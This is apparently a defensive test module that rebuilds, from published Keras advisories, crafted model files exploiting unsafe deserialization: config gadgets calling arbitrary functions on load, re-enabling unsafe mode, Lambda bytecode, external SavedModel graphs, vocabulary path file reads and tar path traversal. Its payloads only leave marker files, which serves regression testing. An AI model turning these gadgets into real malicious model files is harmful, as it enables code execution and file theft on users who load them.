"""Model files crafted after the published advisories about loading a Keras model, built at test
time from each advisory's description, and what loading each one did.

Only `spec.untrusted_loading` runs this module, in a fresh interpreter: nothing here is imported
by a test process. Every payload is harmless: it creates a file or directory inside the marker
directory the loader names (`marks/<advisory>/`) and nothing else; a network address never appears
(a "download" is a file:// URL inside the same directory). `ADVISORIES` maps each advisory to its
builder and the way its text says the file is loaded.
"""

from __future__ import annotations

import io
import json
import os
import tarfile
import zipfile
from pathlib import Path

from spec import untrusted_loading as ul

SECRET = "not-for-the-model\nsecond-line\n"


def _keras():
    import tensorflow as tf

    return tf.keras


def _rewrite_config(path: Path, change) -> Path:
    """Apply `change(config)` to the config.json of the .keras archive at `path`, in place."""
    with zipfile.ZipFile(path) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    config = json.loads(members["config.json"])
    change(config)
    members["config.json"] = json.dumps(config).encode()
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return path


def _functional(keras, path: Path) -> Path:
    inputs = keras.Input((3,), name="x")
    keras.Model(inputs, keras.layers.Dense(2, name="dense")(inputs)).save(str(path))
    return path


def _call_at_load(module: str, name: str, args: list, kwargs: dict) -> dict:
    """A functional-model "layer" that is a function named by module and name: rebuilding the
    model calls it with the arguments the file gives (the gadget of CVE-2025-1550/-8747/-9906)."""
    return {
        "module": module,
        "class_name": "function",
        "config": name,
        "registered_name": "function",
        "name": f"gadget_{name}",
        "inbound_nodes": [{"args": args, "kwargs": kwargs}],
    }


def _insert_gadget(config: dict, gadget: dict) -> None:
    if config.get("class_name") not in ("Functional", "Model"):
        raise ValueError(f"expected a functional model's config, got {config.get('class_name')}")
    config["config"]["layers"].insert(1, gadget)


def any_module_function(directory: Path, mark: Path) -> Path:
    """CVE-2025-1550: config.json names a function of any module (here os.mkdir) and its
    arguments; Keras imports the module and calls it while rebuilding the model."""
    path = _functional(_keras(), directory / "any_module.keras")
    gadget = _call_at_load("os", "mkdir", [str(mark)], {})
    return _rewrite_config(path, lambda c: _insert_gadget(c, gadget))


def get_file_gadget(directory: Path, mark: Path) -> Path:
    """CVE-2025-8747: config.json calls keras.utils.get_file, a Keras function that the module
    allowlist of 3.9 lets through, to fetch a file and write it where the file says."""
    source = directory / "get_file_source.txt"
    source.write_text("fetched by keras.utils.get_file while loading\n", encoding="utf-8")
    path = _functional(_keras(), directory / "get_file.keras")
    kwargs = {
        "fname": mark.name,
        "origin": source.as_uri(),
        "cache_dir": str(mark.parent),
        "cache_subdir": ".",
    }
    gadget = _call_at_load("keras.utils", "get_file", [], kwargs)
    return _rewrite_config(path, lambda c: _insert_gadget(c, gadget))


def enable_unsafe_then_lambda(directory: Path, mark: Path) -> Path:
    """CVE-2025-9906: config.json first calls keras.config.enable_unsafe_deserialization (in a
    nested model, rebuilt before the next layer), then a Lambda's bytecode runs
    despite safe_mode."""
    keras = _keras()
    inner_input = keras.Input((3,), name="inner_x")
    inner = keras.Model(inner_input, inner_input, name="inner")
    path = directory / "enable_unsafe.keras"
    model = keras.Sequential(
        [keras.Input((3,)), inner, keras.layers.Lambda(ul.LEAVE_MARK), keras.layers.Dense(2)]
    )
    model.save(str(path))

    def change(config):
        layers = config["config"]["layers"]
        nested = next(layer for layer in layers if layer.get("class_name") == "Functional")
        _insert_gadget(
            nested, _call_at_load("keras.config", "enable_unsafe_deserialization", [], {})
        )

    return _rewrite_config(path, change)


def h5_lambda(directory: Path, mark: Path) -> Path:
    """CVE-2025-9905 (and CVE-2024-3660 for .keras): a Lambda layer's bytecode in an .h5 file."""
    path = directory / "lambda.h5"
    ul.lambda_model(ul.LEAVE_MARK).save(str(path))
    return path


def keras_lambda(directory: Path, mark: Path) -> Path:
    """CVE-2024-3660: a Lambda layer's bytecode in a .keras file."""
    path = directory / "lambda.keras"
    ul.lambda_model(ul.LEAVE_MARK).save(str(path))
    return path


def tfsm_layer(directory: Path, mark: Path) -> Path:
    """CVE-2026-1462: a TFSMLayer whose config points at a SavedModel outside the archive, whose
    graph writes a file when the model predicts."""
    import tensorflow as tf

    class Writes(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([None, 3], tf.float32)])
        def serve(self, x):
            tf.io.write_file(str(mark), "written by the SavedModel's graph")
            return {"output": x}

    module = Writes()
    saved = directory / "attacker_savedmodel"
    tf.saved_model.save(module, str(saved), signatures={"serving_default": module.serve})
    keras = _keras()
    path = _functional(keras, directory / "tfsm.keras")

    def change(config):
        dense = config["config"]["layers"][1]
        dense.update(
            {
                "module": "keras.layers",
                "class_name": "TFSMLayer",
                "registered_name": "TFSMLayer",
                "config": {
                    "name": "dense",
                    "trainable": False,
                    "filepath": str(saved),
                    "call_endpoint": "serving_default",
                    "call_training_endpoint": None,
                },
            }
        )
        dense.pop("build_config", None)

    _rewrite_config(path, change)
    with zipfile.ZipFile(path) as archive:
        members = {n: archive.read(n) for n in archive.namelist() if n != "model.weights.h5"}
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return path


def vocabulary_path(directory: Path, mark: Path) -> Path:
    """CVE-2025-12058: a StringLookup whose config gives its vocabulary as a path outside the
    archive: loading reads that file (tf.io.gfile also reads URLs)."""
    secret = mark.parent / "secret.txt"
    secret.write_text(SECRET, encoding="utf-8")
    keras = _keras()
    path = directory / "vocabulary.keras"
    keras.Sequential(
        [keras.Input((1,), dtype="string"), keras.layers.StringLookup(vocabulary=["a", "b"])]
    ).save(str(path))

    def change(config):
        lookup = config["config"]["layers"][-1]["config"]
        lookup["vocabulary"] = str(secret)

    return _rewrite_config(path, change)


def _tar_with(path: Path, member: str) -> Path:
    with tarfile.open(path, "w") as archive:
        data = b"extracted outside the extraction directory"
        info = tarfile.TarInfo(member)
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))
    return path


def tar_parent_member(directory: Path, mark: Path) -> Path:
    """CVE-2025-12060: a downloaded archive (get_file(..., extract=True)) with a member named
    ../../escaped: extracting writes outside the extraction directory (and the working one)."""
    return _tar_with(directory / "traversal.tar", "../../escaped")


def tar_within_cwd(directory: Path, mark: Path) -> Path:
    """GHSA-hqp4-2352-xf5r: the same member, where the working directory contains the place it
    lands: the check of 3.12 compared against the working directory, not the extraction one."""
    return _tar_with(directory / "traversal_cwd.tar", "../../escaped")


# What `load_model` is told: the advisory's safe_mode (None: the default), unless UNSAFE (the
# suite's own test of where a payload can write makes every payload run that can).
UNSAFE = {"value": False}


def _load_model(path: Path, safe_mode=None):
    if UNSAFE["value"]:
        safe_mode = False
    kwargs = {} if safe_mode is None else {"safe_mode": safe_mode}
    return _keras().models.load_model(str(path), **kwargs)


def _load(safe_mode=None):
    return lambda path, mark: _load_model(path, safe_mode)


def _load_and_predict(path: Path, mark: Path):
    import numpy as np

    model = _load_model(path, safe_mode=True)
    model(np.ones((1, 3), np.float32))
    return model


def _load_vocabulary(path: Path, mark: Path):
    model = _load_model(path, safe_mode=True)
    vocabulary = model.layers[-1].get_vocabulary()
    if any(word in vocabulary for word in SECRET.split()):
        (mark.parent / "read").write_text("\n".join(map(str, vocabulary)), encoding="utf-8")
    return model


def _extract(path: Path, mark: Path):
    """`keras.utils.get_file(origin=file://..., extract=True)` with its cache inside the marker
    directory; the working directory is the marker directory for the `_cwd` archive, else the
    extraction directory itself."""
    cache = mark.parent / "cache"
    (cache / "datasets").mkdir(parents=True)
    cwd = os.getcwd()
    os.chdir(mark.parent if path.stem.endswith("_cwd") else cache / "datasets")
    try:
        return _keras().utils.get_file(
            fname=path.name, origin=path.as_uri(), cache_dir=str(cache), extract=True
        )
    finally:
        os.chdir(cwd)


def _effects(marks: Path, before: set[Path]) -> list[str]:
    """What the payload made in its marker directory: new paths, except what get_file puts
    inside its own datasets folder."""
    new = set(marks.rglob("*")) - before
    inside = marks / "cache" / "datasets"
    return sorted(str(p.relative_to(marks)) for p in new if p != inside and inside not in p.parents)


# advisory: (clause, builder, how the advisory says the file is loaded)
ADVISORIES = {
    "CVE-2024-3660": ("SAFETY.LAMBDA.KERAS_DEFAULT", keras_lambda, _load()),
    "CVE-2025-9905": ("SAFETY.LAMBDA.H5_SAFE_MODE", h5_lambda, _load(True)),
    "CVE-2025-1550": ("SAFETY.CONFIG.ANY_MODULE", any_module_function, _load(True)),
    "CVE-2025-8747": ("SAFETY.CONFIG.GET_FILE", get_file_gadget, _load(True)),
    "CVE-2025-9906": ("SAFETY.CONFIG.ENABLE_UNSAFE", enable_unsafe_then_lambda, _load(True)),
    "CVE-2025-12058": ("SAFETY.VOCABULARY.LOCAL_FILE", vocabulary_path, _load_vocabulary),
    "CVE-2026-1462": ("SAFETY.TFSMLAYER.EXTERNAL_SAVEDMODEL", tfsm_layer, _load_and_predict),
    "CVE-2025-12060": ("SAFETY.ARCHIVE.PARENT_MEMBER", tar_parent_member, _extract),
    "GHSA-hqp4-2352-xf5r": ("SAFETY.ARCHIVE.WITHIN_CWD", tar_within_cwd, _extract),
}


def run(directory: Path, unsafe: bool = False) -> dict:
    """Build and load each advisory's file in `directory`; per advisory: its clause, whether the
    file was built, raised (class and message of what the user sees), touched (what the payload
    made in its marker directory, `marks/<advisory>/`) and ran_code (whether it made anything).
    `unsafe` loads with safe_mode=False throughout."""
    UNSAFE["value"] = unsafe
    report = {}
    for advisory, (clause, build, load) in ADVISORIES.items():
        marks = directory / "marks" / advisory
        marks.mkdir(parents=True)
        mark = marks / "mark"
        outcome = {"clause": clause, "built": False, "raised": None, "message": ""}
        os.environ[ul.MARK_VARIABLE] = str(mark)
        before = set()
        try:
            path = build(directory, mark)
            if mark.exists():
                raise RuntimeError("building the file ran its payload")
            outcome["built"], before = True, set(marks.rglob("*"))
            load(path, mark)
        except Exception as exc:
            outcome["raised"], outcome["message"] = type(exc).__name__, str(exc)[:500]
            if not outcome["built"]:  # what the builder made is no payload's doing
                before = set(marks.rglob("*"))
        finally:
            del os.environ[ul.MARK_VARIABLE]
        outcome["touched"] = _effects(marks, before)
        outcome["ran_code"] = bool(outcome["touched"])
        report[advisory] = outcome
    return report
